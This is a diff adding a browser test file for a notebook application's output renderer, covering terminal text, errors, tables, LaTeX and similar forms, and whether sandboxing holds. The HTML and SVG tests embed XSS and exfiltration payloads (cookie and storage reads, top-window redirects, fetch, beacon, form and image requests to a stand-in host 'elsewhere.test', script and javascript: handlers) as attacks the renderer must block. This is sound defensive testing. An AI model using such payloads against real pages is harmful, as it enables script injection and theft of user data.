@@ -1,0 +1,337 @@
+import AxeBuilder from "@axe-core/playwright";
+import type { Browser, BrowserContext, Page } from "@playwright/test";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import {
+  applicationStyle,
+  type KernelServer,
+  launchBrowser,
+  pageScript,
+  serveKernel,
+} from "#test/support/kernel-page.ts";
+
+let browser: Browser;
+let context: BrowserContext;
+let server: KernelServer;
+let page: Page;
+const dialogs: string[] = [];
+/** Requests to another host that got out. */
+const elsewhere: string[] = [];
+
+/** A page that shows outputs: `show([...])` replaces them, `update` changes one in place. */
+const gallery = `
+import { createRoot } from "react-dom/client";
+import * as Y from "yjs";
+import { CellOutputs } from "#components/notebook/output/index.ts";
+import { createOutput } from "#lib/notebook/cell.ts";
+const doc = new Y.Doc();
+const main = document.querySelector("main");
+const root = createRoot(main);
+let count = 0;
+window.went = [];
+window.show = (outputs) => {
+  const list = doc.getArray("outputs" + count++);
+  list.push(outputs.map(createOutput));
+  window.list = list;
+  root.render(<div style={{ width: "52rem", maxWidth: "100%", padding: 24, background: "var(--page)" }}>
+    <h1 className="sr-only">Outputs</h1>
+    <CellOutputs key={count} outputs={list} notebookId="n1" cellId="a" onGoTo={(place) => window.went.push(place)} />
+  </div>);
+};
+`;
+
+beforeAll(async () => {
+  server = await serveKernel(await pageScript(gallery), await applicationStyle());
+  browser = await launchBrowser();
+  context = await browser.newContext({ viewport: { width: 960, height: 900 } });
+  context.setDefaultTimeout(8_000);
+  await context.route("http://elsewhere.test/**", (route) => {
+    elsewhere.push(route.request().url());
+    return route.fulfill({ body: "got out" });
+  });
+  page = await context.newPage();
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.goto(server.base);
+});
+afterAll(async () => {
+  await browser.close();
+  await server.stop();
+});
+
+const show = async (...outputs: readonly unknown[]): Promise<void> => {
+  await page.evaluate((given) => (window as unknown as { show(outputs: unknown): void }).show(given), outputs);
+};
+const data = (bundle: Readonly<Record<string, unknown>>) => ({
+  output_type: "display_data",
+  data: bundle,
+  metadata: {},
+});
+const stream = (text: string, name = "stdout") => ({ output_type: "stream", name, text });
+const table = (rows: number) => ({
+  schema: {
+    fields: [
+      { name: "row", type: "integer" },
+      { name: "name", type: "string" },
+      { name: "share", type: "number" },
+    ],
+  },
+  data: Array.from({ length: rows }, (_, at) => ({ row: at, name: `n${(at * 7919) % rows}`, share: at / 7 })),
+  octavo: { rows: rows * 3 },
+});
+const chart = `<svg xmlns="http://www.w3.org/2000/svg" class="plot" fill="currentColor" font-family="system-ui" font-size="10" text-anchor="middle" width="640" height="200" viewBox="0 0 640 200"><style>.plot{color:red}</style><g aria-label="line" stroke="steelblue" fill="none" stroke-width="1.5"><path d="M40,180L140,120L240,90L340,60L440,52L540,48"/></g><g fill="currentColor"><text x="20" y="184">0.0</text><text x="20" y="52">1.0</text></g></svg>`;
+
+async function axe(): Promise<void> {
+  const found = await new AxeBuilder({ page }).analyze();
+  expect(found.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" ")}`)).toEqual([]);
+}
+
+describe("text", () => {
+  it("shows terminal colours as spans and nothing of what else a terminal could do", async () => {
+    await show(stream("plain \u001b[31mred \u001b[1mbold\u001b[0m\u001b]0;title\u0007 end\n<b>not markup</b>\n"));
+    await page.waitForSelector(".out-text span");
+    expect(await page.textContent(".out-text pre")).toBe("plain red bold end\n<b>not markup</b>");
+    expect(await page.locator(".out-text b").count()).toBe(0);
+  });
+
+  it("folds what is long, and shows more on request", async () => {
+    await show(stream(Array.from({ length: 1000 }, (_, at) => `line ${at}`).join("\n")));
+    const lines = async () => ((await page.textContent(".out-text pre")) ?? "").split("\n").length;
+    await page.waitForSelector(".out-more");
+    expect(await lines()).toBe(200);
+    await page.click("text=Show 600 more");
+    expect(await lines()).toBe(800);
+    await page.click("text=Show 200 more");
+    expect(await lines()).toBe(1000);
+    expect(await page.locator(".out-more").count()).toBe(0);
+  });
+
+  it("follows a stream that grows", async () => {
+    await show(stream("a"));
+    await page.waitForSelector(".out-text");
+    await page.evaluate(() => {
+      const list = (
+        window as unknown as {
+          list: { get(at: number): { get(key: string): { insert(at: number, text: string): void } } };
+        }
+      ).list;
+      list.get(0).get("text").insert(1, "\nb");
+    });
+    await page.waitForFunction(() => document.querySelector(".out-text pre")?.textContent === "a\nb");
+  });
+});
+
+describe("errors", () => {
+  it("say what, where, and lead there", async () => {
+    await show({
+      output_type: "error",
+      ename: "TypeError",
+      evalue: "no such thing",
+      traceback: ["at deep (cell:b:2:5)", "at cell:a:3:30"],
+    });
+    await page.click("text=Go to line 3");
+    await page.click("text=Go to the other cell");
+    await page.click("text=Stack, 2 frames");
+    expect(await page.textContent(".out-error-head")).toBe("TypeErrorline 3, column 30");
+    expect(await page.evaluate(() => (window as unknown as { went: unknown }).went)).toEqual([
+      { cellId: "a", line: 3, column: 30 },
+      { cellId: "b", line: 2, column: 5 },
+    ]);
+    await axe();
+  });
+
+  it("of a foreign kernel are text for a terminal", async () => {
+    await show({
+      output_type: "error",
+      ename: "ZeroDivisionError",
+      evalue: "division by zero",
+      traceback: ["\u001b[0;31mZeroDivisionError\u001b[0m  Traceback", "----> 1 1/0"],
+    });
+    await page.waitForSelector(".out-trace");
+    expect(await page.textContent(".out-trace")).toContain("----> 1 1/0");
+    await axe();
+  });
+});
+
+describe("HTML", () => {
+  it("runs in a frame that grows with it and follows the theme", async () => {
+    await show(
+      data({
+        "text/html":
+          "<table><tr><th>a</th></tr><tr><td>1</td></tr></table><p id=x></p><script>x.textContent = 'ran ' + origin</script>",
+      }),
+    );
+    const frame = page.frameLocator(".out-frame");
+    await frame.locator("#x").getByText("ran null").waitFor();
+    await page.waitForFunction(() => (document.querySelector(".out-frame")?.getBoundingClientRect().height ?? 0) > 60);
+    await page.evaluate(() => {
+      document.documentElement.dataset.theme = "dark";
+    });
+    await page.waitForFunction(() => true);
+    await expect
+      .poll(() => frame.locator("html").evaluate((root) => root.style.getPropertyValue("--scheme")))
+      .toBe("dark");
+    await page.evaluate(() => {
+      delete document.documentElement.dataset.theme;
+    });
+    await axe();
+  });
+
+  it("reaches neither the page, nor storage, nor the network, nor the person", async () => {
+    const before = server.requests.length;
+    await show(
+      data({
+        "text/html": `<p id=log></p><img src="http://elsewhere.test/leak.png"><link rel=stylesheet href="http://elsewhere.test/leak.css"><iframe src="http://elsewhere.test/leak-frame"></iframe>
+<form action="http://elsewhere.test/leak-form" method=post><button id=send>x</button></form><meta http-equiv=refresh content="0;url=http://elsewhere.test/leak-refresh">
+<script>
+const tries = {
+  parent: () => parent.document.title, cookie: () => document.cookie, storage: () => localStorage.length, indexed: () => indexedDB.open("x"),
+  top: () => { top.location = "http://elsewhere.test/leak-top" }, popup: () => { if (open("http://elsewhere.test/leak-popup") === null) throw 0; }, alert: () => { alert("hello"); throw 0; },
+  frame: () => frameElement.id,
+};
+const held = Object.entries(tries).filter(([, attempt]) => { try { attempt(); return false } catch { return true } }).map(([name]) => name);
+send.click();
+fetch("http://elsewhere.test/leak-fetch").catch(() => 0);
+new WebSocket("ws://127.0.0.1:1/leak").onerror = () => 0;
+navigator.sendBeacon("http://elsewhere.test/leak-beacon", "x");
+parent.postMessage({ type: "height", height: 1e12 }, "*"); parent.postMessage({ type: "height", height: "x" }, "*"); parent.postMessage("junk", "*");
+setTimeout(() => { log.textContent = "held: " + held.join(" ") }, 300);
+</script>`,
+      }),
+    );
+    const text = page.frameLocator(".out-frame").locator("#log");
+    await text.getByText("held:").waitFor();
+    expect(await text.textContent()).toBe("held: parent cookie storage indexed top popup alert frame");
+    expect(server.requests.slice(before).map(({ url }) => url)).toEqual([]);
+    expect(dialogs).toEqual([]);
+    expect(elsewhere).toEqual([]);
+    expect(page.url()).toBe(`${server.base}/`);
+    expect((await page.locator(".out-frame").boundingBox())?.height).toBeLessThanOrEqual(1200);
+  });
+});
+
+describe("drawings", () => {
+  it("are shown in the page's own type and colour, with their own ids", async () => {
+    await show(data({ "image/svg+xml": chart }));
+    await page.waitForSelector(".out-svg svg");
+    expect(
+      await page
+        .locator(".out-svg style")
+        .evaluateAll((all) => all.filter((one) => one.textContent?.includes("red")).length),
+    ).toBe(0);
+    expect(await page.locator(".out-svg path").getAttribute("d")).toContain("M40,180");
+    await axe();
+  });
+
+  it("carry nothing that acts or reaches out", async () => {
+    const before = server.requests.length;
+    await show(
+      data({
+        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" style="position:fixed;inset:0"><script>alert(2)</script>
+<style>@import "http://elsewhere.test/leak-style.css"; * { background: url(http://elsewhere.test/leak-url) }</style><image href="http://elsewhere.test/leak-image.png"/><use xlink:href="http://elsewhere.test/leak-use#x"/>
+<a href="javascript:alert(3)"><rect width="10" height="10" fill="url(http://elsewhere.test/leak-fill)"/></a><foreignObject><iframe src="http://elsewhere.test/leak-foreign"></iframe></foreignObject>
+<animate attributeName="href" to="javascript:alert(4)"/><rect id="ok" width="5" height="5" fill="url(#g)" onclick="alert(5)"/></svg>`,
+      }),
+    );
+    await page.waitForSelector(".out-svg #ok");
+    const markup = await page.locator(".out-svg svg").evaluate((svg) => svg.outerHTML);
+    expect(markup).not.toMatch(/script|javascript|leak|onload|onclick|foreignObject|position/i);
+    expect(markup).toContain("url(#g)");
+    expect(server.requests.slice(before)).toEqual([]);
+    expect(elsewhere).toEqual([]);
+    expect(dialogs).toEqual([]);
+  });
+
+  it("that are no drawing say so", async () => {
+    await show(data({ "image/svg+xml": "<p>hello" }));
+    await page.getByText("This drawing cannot be shown.").waitFor();
+  });
+});
+
+describe("tables", () => {
+  it("sort, are found in, and hold only the rows in view", async () => {
+    await show(data({ "application/vnd.dataresource+json": table(5000) }));
+    await page.waitForSelector(".out-table");
+    expect(await page.locator(".out-table tbody tr").count()).toBeLessThan(40);
+    expect(await page.textContent(".out-table-foot .num")).toBe("First 5,000 of 15,000 rows, 3 columns");
+    await page.click(".out-table th >> text=share");
+    await page.click(".out-table th >> text=share");
+    expect(await page.textContent(".out-table tbody tr >> nth=0")).toBe(`4,999n${(4999 * 7919) % 5000}714.1429`);
+    await page.click("text=Find");
+    await page.fill(".out-find", "n777");
+    await page.waitForFunction(() =>
+      document.querySelector(".out-table-foot .num")?.textContent?.startsWith("1 of 5,000 rows"),
+    );
+    await axe();
+  });
+
+  it("scroll to their last row", async () => {
+    await show(data({ "application/vnd.dataresource+json": table(5000) }));
+    await page.locator(".out-table-scroll").evaluate((place) => {
+      place.scrollTop = place.scrollHeight;
+    });
+    await page.getByRole("cell", { name: "4,999", exact: true }).waitFor();
+  });
+});
+
+describe("other forms", () => {
+  it("LaTeX, Markdown, JSON, tensors and progress are shown as what they are", async () => {
+    await show(
+      data({ "text/latex": "$\\frac{1}{2}$" }),
+      data({ "text/markdown": "**bold** <script>alert(6)</script>" }),
+      data({ "application/json": { a: [1, { b: null }], c: "text" } }),
+      data({
+        "application/vnd.octavo.tensor+json": {
+          dtype: "float32",
+          shape: [2, 2],
+          size: 4,
+          statistics: { min: 0, max: 3, mean: 1.5, deviation: 1.118, notNumbers: 0 },
+          head: [0, 1, 2, 3],
+        },
+      }),
+      data({
+        "application/vnd.octavo.progress+json": { label: "Epoch 3 of 12", fraction: 0.25 },
+        "text/plain": "Epoch 3 of 12 25 %",
+      }),
+      data({ "application/x-unknown": 1 }),
+      data({ "application/x-unknown": 1, "text/plain": "fallback" }),
+    );
+    await page.waitForSelector(".katex");
+    await page.getByText("Epoch 3 of 12").waitFor();
+    expect(await page.locator("strong").count()).toBe(1);
+    expect(await page.getByRole("progressbar").getAttribute("aria-valuenow")).toBe("25");
+    await page.getByText("No form of this output can be shown here: application/x-unknown").waitFor();
+    await page.getByText("fallback").waitFor();
+    expect(dialogs).toEqual([]);
+    await axe();
+  });
+
+  it("a value of the wrong shape falls back to text and takes nothing with it", async () => {
+    await show(
+      data({ "application/vnd.dataresource+json": { schema: 5 } }),
+      data({ "application/vnd.octavo.tensor+json": "x", "text/plain": "a tensor" }),
+      data({ "image/png": "not base64" }),
+      data({ "text/plain": "after" }),
+    );
+    await page.getByText("a tensor").waitFor();
+    await page.getByText("after").waitFor();
+    await page.getByText("This picture could not be loaded.").waitFor();
+  });
+
+  it("a large value is fetched, and can be asked for again when it fails", async () => {
+    let fails = true;
+    await page.route("**/blobs/**", (route) =>
+      fails ? route.fulfill({ status: 503 }) : route.fulfill({ body: "from the blob", contentType: "text/plain" }),
+    );
+    const digest = "a".repeat(64);
+    await show(
+      data({ "application/vnd.octavo.blob+json": { "text/plain": { digest, size: 5 } }, "text/plain": "start…" }),
+    );
+    await page.getByText("the server answers 503").waitFor();
+    fails = false;
+    await page.click("text=Try again");
+    await page.getByText("from the blob").waitFor();
+    await page.unroute("**/blobs/**");
+  });
+});
